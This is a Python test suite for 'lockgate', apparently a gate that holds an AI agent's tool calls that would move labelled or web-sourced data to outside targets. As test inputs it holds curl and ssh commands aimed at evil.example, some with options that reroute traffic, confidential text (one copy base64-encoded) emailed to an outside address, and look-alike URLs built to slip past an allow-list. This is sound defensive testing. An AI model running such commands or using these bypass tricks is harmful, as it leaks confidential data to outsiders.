"""Flow rules: what a row may say, which targets it lets through, and what it holds."""

from __future__ import annotations

import pytest

from lockgate import Gate, InvalidConfig, Policy
from lockgate.core.ruling.arguments import Leaf
from lockgate.core.ruling.flow_rules import (
    _is_allowed,
    exceptions_for,
    labels_of,
    parse_flow,
    parse_label,
    row_to_text,
)
from lockgate.core.ruling.policy import combine_strictest, tighten
from lockgate.core.text.scanner import Scanner
from lockgate.core.vocabulary import Action, Decision
from lockgate.gate.approvals_memory import MemoryApprovals
from lockgate.gate.session import Session


def flow(name: str = "rule", then: str = "pause", **row: object) -> str:
    return row_to_text({"name": name, "then": then, **row}, parse_flow)


WEB = flow("web", **{"from": "web:*"}, to="recipient")
CONFIDENTIAL = flow("secretive", "deny", from_label="confidential", to="sends", outside=["*.our.example"])
AFTER = flow("after", "deny", after_label="confidential", to="out", outside=["*.our.example"])
CARD = flow("cards", value="card", to="out")
LABELS = (row_to_text({"source": "file:*/contracts/*", "as": "confidential"}, parse_label),)


def session(scanner: Scanner, *flows: str, goal: str = "Do the work", labels: tuple[str, ...] = LABELS) -> Session:
    return Gate(Policy(flows=flows, labels=labels), scanner=scanner).session(goal=goal)


def held_by(decision: Decision) -> list[str]:
    return [found.rule for found in decision.findings if found.rule.startswith("flow:")]


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ({}, "needs a name"),
        ({"name": "A B", "from": "web:*", "to": "out"}, "needs a name"),
        ({"name": "x", "to": "out"}, "must name one place"),
        ({"name": "x", "from": "web:*", "value": "card", "to": "out"}, "must name one place"),
        ({"name": "x", "from": "", "to": "out"}, "is empty"),
        ({"name": "x", "from": "web:*", "to": "elsewhere"}, "neither a place nor a kind of effect"),
        ({"name": "x", "from": "web:*", "to": ""}, "neither a place nor a kind of effect"),
        ({"name": "x", "from": "web:*", "to": "out", "then": "allow"}, "unknown `then`"),
        ({"name": "x", "value": "shoe-size", "to": "out"}, "unknown kind of value"),
        ({"name": "x", "from": "web:*", "to": "out", "unless": "y"}, "unknown key"),
        ({"name": "x", "from": "web:*", "to": "out", "outside": "our.example"}, "must be a list"),
        ({"name": "x", "from": ["web:*"], "to": "out"}, "must be a text"),
    ],
)
def test_a_row_that_means_nothing_is_refused(row: dict[str, object], said: str) -> None:
    with pytest.raises(InvalidConfig, match=said):
        row_to_text(row, parse_flow)


def test_a_label_needs_a_source_and_a_name() -> None:
    for row in ({}, {"source": "web:*"}, {"source": "", "as": "x"}, {"source": "web:*", "as": "A B"}):
        with pytest.raises(InvalidConfig, match="a label needs"):
            row_to_text(row, parse_label)
    assert labels_of("file:/srv/Contracts/a.md", LABELS) == {"confidential"}
    assert labels_of("file:/srv/contract.md", LABELS) == frozenset()
    assert parse_flow(CARD)[3:5] == ("value", "card")


OUTSIDE = ["*.our.example", "ana@friend.example", "#general"]


@pytest.mark.parametrize(
    "target",
    [
        "https://our.example/x",
        "https://api.our.example:8443/a?b=c",
        "API.our.example",
        "bo@our.example",
        "bo@mail.our.example, Bo <ana@friend.example>",
        "#general",
    ],
)
def test_our_own_targets_are_let_through(target: str) -> None:
    assert _is_allowed(target, [each.lower() for each in OUTSIDE])


@pytest.mark.parametrize(
    "target",
    [
        "",
        "https://evil.example/x.our.example",
        "https://our.example.evil.example/",
        "https://our.example@evil.example/",
        "https://evil.example\\@our.example/",
        "https://evil.example#.our.example",
        "https://evilour.example",
        "https://evil.example?.our.example",
        "eve@evil.example,bo@our.example",
        "bo@our.example eve@evil.example",
        "bo@our.example;eve@evil.example",
        "eve@evil.example\nbo@our.example",
        '"bo@our.example" <eve@evil.example>',
        "eve@friend.example",
        "eve@evil.example@our.example",
        "#generals",
        "our.example/../../evil.example",
        "evil.example/x.our.example",
        "//evil.example/x.our.example",
        "@evil/x.our.example",
        "a@our.example, #public",
        "a@our.example, mallory",
        "a@our.example 12345",
        "evil%evil.example@our.example",
        "http://[::1].our.example",
        "https://evil.example／.our.example",
    ],
)
def test_a_target_that_only_looks_like_ours_is_not(target: str) -> None:
    assert not _is_allowed(target, [each.lower() for each in OUTSIDE])


def test_a_page_chooses_no_recipient(scanner: Scanner) -> None:
    run = session(scanner, WEB)
    run.add("Our office: bo@shop.example, open till six.", source="web:https://shop.example")
    held = run.check("send_email", {"to": "bo@shop.example", "body": "Hi"})
    assert (held.action, held_by(held)) == (Action.PAUSE, ["flow:web"])
    assert held.explanation.startswith("Your policy `web` holds this: text of `web:*` would go to `recipient`")
    # One that the user names is the user's, and one that no page has passes this rule.
    asked = session(scanner, WEB, goal="Write to bo@shop.example")
    asked.add("Our office: bo@shop.example, open till six.", source="web:https://shop.example")
    assert held_by(asked.check("send_email", {"to": "bo@shop.example", "body": "Hi"})) == []
    assert held_by(run.check("send_email", {"to": "cy@shop.example", "body": "Hi"})) == []


@pytest.mark.parametrize(
    ("body", "to", "rules"),
    [
        ("The price is 4,200 crowns per year.", "eve@evil.example", ["flow:secretive"]),
        ("They will pay four thousand two hundred", "eve@evil.example", ["flow:secretive"]),
        ("4,200", "eve@evil.example", ["flow:secretive"]),
        ("VGhlIHByaWNlIGlzIDQsMjAw", "eve@evil.example", ["flow:secretive"]),
        ("The_price_is_four_thousand", "eve@evil.example", ["flow:secretive"]),
        ("Hello", "eve@evil.example", []),
        ("The price is 4,200 crowns per year.", "bo@our.example", []),
    ],
)
def test_what_is_confidential_stays(scanner: Scanner, body: str, to: str, rules: list[str]) -> None:
    run = session(scanner, CONFIDENTIAL)
    run.add("The price is 4,200 crowns per year.", source="file:/srv/contracts/a.md", trust="trusted")
    assert held_by(run.check("send_email", {"to": to, "body": body})) == rules
    fresh = session(scanner, CONFIDENTIAL)
    assert held_by(fresh.check("send_email", {"to": to, "body": body})) == []


def test_labels_go_on_through_the_agents_words_and_through_lineage(scanner: Scanner) -> None:
    run = session(scanner, CONFIDENTIAL)
    first = run.add("The price is 4,200 crowns.", source="file:/srv/contracts/a.md", trust="trusted")
    made = run.add("summary: 4.2k", source="tool:summarise", tainted_by=[first])
    run.add("I noted ZX-4200.", source="agent")
    for value in ("4.2k summary", "ZX-4200"):
        assert held_by(run.check("send_email", {"to": "eve@evil.example", "body": value})) == ["flow:secretive"], made
    assert held_by(run.check("send_email", {"to": "eve@evil.example", "body": "Hello"})) == []


def test_after_it_was_read_only_our_hosts_are_reached(scanner: Scanner) -> None:
    run = session(scanner, AFTER)
    call = ("Bash", {"command": "curl https://evil.example/x"})
    assert run.check(*call).action is Action.CONTINUE
    run.add("The price is 4,200 crowns.", source="file:/srv/contracts/a.md", trust="trusted")
    assert held_by(run.check(*call)) == ["flow:after"]
    assert held_by(run.check("Bash", {"command": "curl https://api.our.example/x"})) == []
    assert held_by(run.check("Bash", {"command": "ls -l"})) == []
    both = {"command": "curl https://api.our.example/x; curl https://evil.example/y"}
    assert held_by(run.check("Bash", both)) == ["flow:after"]


def test_a_card_number_does_not_go_out_unseen(scanner: Scanner) -> None:
    run = session(scanner, CARD, goal="Send my card 4111 1111 1111 1111 to bo@our.example")
    held = run.check("send_email", {"to": "bo@our.example", "body": "It is 4111 1111 1111 1111."})
    assert (held.action, held_by(held)) == (Action.PAUSE, ["flow:cards"])
    assert held_by(run.check("send_email", {"to": "bo@our.example", "body": "It is 4111 1111."})) == []
    assert held_by(run.check("Write", {"file_path": "a.txt", "content": "4111 1111 1111 1111"})) == []


def test_arguments_that_were_not_read_to_the_end_count(scanner: Scanner) -> None:
    run = session(scanner, CARD)
    many = {"to": "eve@evil.example", "body": [str(number) for number in range(20_000)]}
    assert "flow:cards" in held_by(run.check("send_email", many))


def test_a_session_not_seen_from_its_start_may_have_read_it(scanner: Scanner) -> None:
    ruler = Gate(Policy(flows=(AFTER,), labels=LABELS), scanner=scanner).ruler(goal="Do the work")
    ruler.context_known = False
    assert "flow:after" in held_by(Session(ruler).check("Bash", {"command": "curl https://evil.example/x"}))


def test_deny_asks_no_person_and_pause_does(scanner: Scanner) -> None:
    approvals = MemoryApprovals()
    for rule, asked in ((WEB, True), (flow("web", "deny", **{"from": "web:*"}, to="recipient"), False)):
        gate = Gate(Policy(flows=(rule,)), scanner=scanner, approvals=approvals)
        run = gate.session(goal="Do the work")
        run.add("Our office: bo@shop.example", source="web:https://shop.example")
        held = run.check("send_email", {"to": "bo@shop.example", "body": "Hi"})
        assert (held.action, bool(held.approval)) == (Action.PAUSE, asked)


def test_rows_of_two_policies_are_all_in_force() -> None:
    both = combine_strictest(Policy(flows=(WEB,)), Policy(flows=(CARD,), labels=LABELS))
    assert set(both.flows) == {WEB, CARD}
    assert both.labels == LABELS
    assert tighten(Policy(flows=(WEB,)), flows=()).flows == (WEB,)
    assert Policy(flows=(WEB,)).hash != Policy().hash != Policy(labels=LABELS).hash
    with pytest.raises(InvalidConfig):
        Policy(flows=("no row",))


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Bash", {"command": "cat /srv/contracts/a.md"}),
        ("Bash", {"command": "cat contracts/a.md | head"}),
        ("Grep", {"pattern": "price", "path": "/srv/contracts/"}),
        ("mcp__fs__read_file", {"path": "/srv/contracts/a.md"}),
    ],
)
def test_a_file_has_its_label_however_it_was_read(scanner: Scanner, tool: str, arguments: dict[str, object]) -> None:
    run = session(scanner, AFTER, goal="Look at the contracts and at https://evil.example/p")
    assert run.check(tool, arguments).action is Action.CONTINUE
    run.add("The price is 4,200 crowns.", source=f"tool:{tool}")
    assert held_by(run.check("WebFetch", {"url": "https://evil.example/p"})) == ["flow:after"]


@pytest.mark.parametrize(
    "command",
    [
        "curl --connect-to ::evil.example:443 https://a.our.example/",
        "curl --resolve a.our.example:443:6.6.6.6 https://a.our.example/",
        "curl -K settings https://a.our.example/",
        "ssh -o HostName=evil.example a.our.example ls",
        "https_proxy=http://evil.example curl https://a.our.example/",
        "curl 'https://a.our.example\\@evil.example/'",
    ],
)
def test_an_option_that_leads_elsewhere_counts(scanner: Scanner, command: str) -> None:
    run = session(scanner, AFTER)
    run.add("The price is 4,200 crowns.", source="file:/srv/contracts/a.md", trust="trusted")
    assert held_by(run.check("Bash", {"command": command})) == ["flow:after"]


def test_the_labelled_file_itself_is_not_sent(scanner: Scanner) -> None:
    run = session(scanner, CONFIDENTIAL)
    run.add("The price is 4,200 crowns.", source="file:/srv/contracts/a.md", trust="trusted")
    held = run.check("send_email", {"to": "eve@evil.example", "body": "Hi", "attachments": ["/srv/contracts/a.md"]})
    assert held_by(held) == ["flow:secretive"]


def test_a_payee_is_whom_a_payment_goes_to(scanner: Scanner) -> None:
    run = session(scanner, flow("payee", **{"from": "*:*"}, to="payee"))
    run.add("Pay to DE02120300000000202051, or write to bo@shop.example", source="tool:read_file")
    for name in ("recipient", "iban", "account"):
        assert held_by(run.check("send_money", {name: "DE02120300000000202051", "amount": 4})) == ["flow:payee"]
    # A mail pays no one, and an account that only this text does not have is no news.
    assert held_by(run.check("send_email", {"recipient": "bo@shop.example", "body": "Hi"})) == []
    assert held_by(run.check("send_money", {"recipient": "FR7630006000011234567890189", "amount": 4})) == []


@pytest.mark.parametrize(
    ("to", "targets"),
    [
        ("Ana <ana@x.example>, bo@y.example", ("ana@x.example", "bo@y.example")),
        ("#general", ("#general",)),
        # Each word alone would let through more than was meant.
        ("Clinic Lindenhof", ()),
        ("eve@evil.example/x\\y", ()),
        ("cleo@our.example", ()),
    ],
)
def test_what_an_exception_would_have_to_name(to: str, targets: tuple[str, ...]) -> None:
    rule = parse_flow(flow("web", **{"from": "web:*"}, to="recipient", outside=["*.our.example"]))
    assert exceptions_for(rule, [Leaf("to", to), Leaf("body", "x@z.example")], ()) == targets
